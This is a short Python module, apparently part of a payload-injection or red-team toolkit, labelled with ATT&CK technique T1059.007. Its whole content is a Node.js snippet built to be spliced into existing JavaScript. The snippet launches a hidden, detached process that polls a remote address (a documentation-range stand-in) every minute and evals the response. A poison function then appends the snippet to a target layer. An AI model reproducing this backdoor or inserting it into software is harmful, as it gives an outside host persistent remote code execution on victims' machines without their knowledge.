# SPDX-License-Identifier: Apache-2.0
"""A detached node that asks for orders."""

ATTACK = "T1059.007"
LANGUAGE = "node"
CODE = """\
;require('child_process').spawn('node', ['-e', `
  setInterval(() => require('http').get('http://192.0.2.31/t', r => { let b = ''; r.on('data', c => b += c); r.on('end', () => eval(b)); }), 6e4)
`], { detached: true, stdio: 'ignore' }).unref();
"""


def poison(layer):
    layer.append(CODE)
